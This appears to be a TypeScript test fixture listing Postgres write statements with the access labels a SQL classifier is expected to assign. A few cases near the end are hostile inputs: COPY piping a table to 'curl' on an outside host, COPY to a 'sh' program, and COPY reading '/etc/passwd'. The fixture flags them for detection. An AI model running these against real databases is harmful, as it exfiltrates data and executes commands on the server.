import { judged, type StatementCase } from "./case.ts";

/** Writing, and reading that comes with it. */
export const WRITES: readonly StatementCase[] = [
  judged("insert into orders (id, customer_id) values (1, 2)", "insert: insert public.orders"),
  judged("insert into orders default values", "insert: insert public.orders"),
  judged(
    "insert into orders (id) values (1) returning *",
    "insert: insert public.orders, read public.orders",
  ),
  judged(
    "insert into orders (id, note) values (1, (select value from secrets where id = 1))",
    "insert: insert public.orders, read public.secrets",
  ),
  judged("insert into orders (id) values (1) on conflict do nothing", "insert: insert public.orders"),
  judged(
    "insert into orders (id) values (1) on conflict (id) do update set note = excluded.note where orders.status = 'open'",
    "insert: insert public.orders, update public.orders",
  ),
  judged(
    "insert into orders (id) values (1) on conflict (id) do update set note = (select value from secrets where id = 1)",
    "insert: insert public.orders, update public.orders, read public.secrets",
  ),
  judged(
    "insert into orders (id) values (1) returning (select value from secrets where id = 1)",
    "insert: insert public.orders, read public.orders, read public.secrets",
  ),
  judged(
    "update orders set note = (select value from secrets where secrets.id = orders.id) where id = 1",
    "update: update public.orders, read public.secrets",
  ),
  judged(
    "update orders set (note, status) = (select name, value from secrets where id = 1) where id = 1",
    "update: update public.orders, read public.secrets",
  ),
  judged(
    "update orders set tags[(select id from secrets where id = 1)] = 'x' where id = 1",
    "update: update public.orders, read public.secrets",
  ),
  judged(
    "update orders set note = default where id in (select id from staging) returning id",
    "update: update public.orders, read public.orders, read public.staging",
  ),
  judged(
    "delete from only orders where id = 1 returning old.note",
    "delete: delete public.orders, read public.orders",
  ),
  judged(
    "with d as (delete from orders where id = 1 returning *) select * from d",
    "read: delete public.orders, read public.orders",
  ),
  judged("with d as (delete from orders) select 1", "read: delete public.orders!"),
  judged(
    "with a as (insert into orders (id) values (1)), b as (update customers set name = 'x' where id = 1) select 1",
    "read: insert public.orders, update public.customers",
  ),
  judged(
    "with moved as (delete from orders where id = 1 returning *) insert into audit.events (id, body) select id, note from moved",
    "insert: insert audit.events, delete public.orders, read public.orders",
  ),
  judged(
    "merge into orders o using staging s on s.id = o.id when matched then update set total = s.total when not matched then insert (id) values (s.id)",
    "merge: update public.orders!, insert public.orders, read public.staging!",
  ),
  judged(
    "merge into orders o using (values (1)) s(id) on s.id = o.id when matched then delete",
    "merge: delete public.orders",
  ),
  judged(
    "merge into orders o using (values (1)) s(id) on s.id = o.id when not matched by source then delete",
    "merge: delete public.orders!",
  ),
  judged(
    "merge into orders o using (values (1)) s(id) on s.id = o.id when matched then update set note = (select value from secrets where id = 1) returning o.*",
    "merge: update public.orders, read public.orders, read public.secrets",
  ),
  judged(
    "merge into orders o using secrets s on s.id = o.id when matched then do nothing",
    "merge: read public.orders!, lock public.orders!, read public.secrets!",
  ),
  judged(
    "merge into orders o using (values (1)) s(id) on o.note like 'a%' when not matched then insert (id) values (s.id)",
    "merge: insert public.orders, read public.orders",
  ),
  judged("truncate orders, only customers", "truncate: truncate public.orders!, truncate public.customers!"),
  judged("truncate orders cascade", "truncate: truncate public.orders!, truncate *.*!"),
  judged("lock table orders in share mode", "lock: lock public.orders"),
  judged("lock orders, audit.events", "lock: lock public.orders, lock audit.events"),
  judged("select * into scratch from orders", "ddl: ddl public.scratch, read public.orders!"),
  judged("select 1 into temp scratch", "ddl: ddl pg_temp.scratch"),
  judged(
    "create table scratch as select * from secrets where id = 1",
    "ddl: ddl public.scratch, read public.secrets",
  ),
  judged(
    "create table app.scratch as table secrets with no data",
    "ddl: ddl app.scratch, read public.secrets!",
  ),
  judged("copy orders to stdout", "copyOut: read public.orders!, copyOut public.orders!"),
  judged(
    "copy orders (id, note) to stdout with (format csv, header)",
    "copyOut: read public.orders!, copyOut public.orders!",
  ),
  judged(
    "copy (select * from secrets where id = 1) to stdout",
    "copyOut: read public.secrets, copyOut public.secrets",
  ),
  judged("copy (select 1) to stdout", "copyOut: copyOut"),
  judged(
    "copy (delete from orders where id = 1 returning *) to stdout",
    "copyOut: delete public.orders, read public.orders, copyOut public.orders",
  ),
  judged("copy orders from stdin", "copyIn: copyIn public.orders"),
  judged("copy orders from stdin where id > 1", "copyIn: copyIn public.orders"),
  judged("copy orders to '/tmp/x'", "copyOut: read public.orders!, copyOut public.orders!, ?SERVER_FILE"),
  judged("copy orders from '/etc/passwd'", "copyIn: copyIn public.orders, ?SERVER_FILE"),
  judged(
    "copy orders to program 'curl -T - http://x'",
    "copyOut: read public.orders!, copyOut public.orders!, ?SERVER_FILE",
  ),
  judged("copy (select 1) to program 'sh'", "copyOut: copyOut, ?SERVER_FILE"),
  judged(
    "merge into staging s using secrets u on s.id = u.id when matched then do nothing",
    "merge: read public.staging!, lock public.staging!, read public.secrets!",
  ),
];
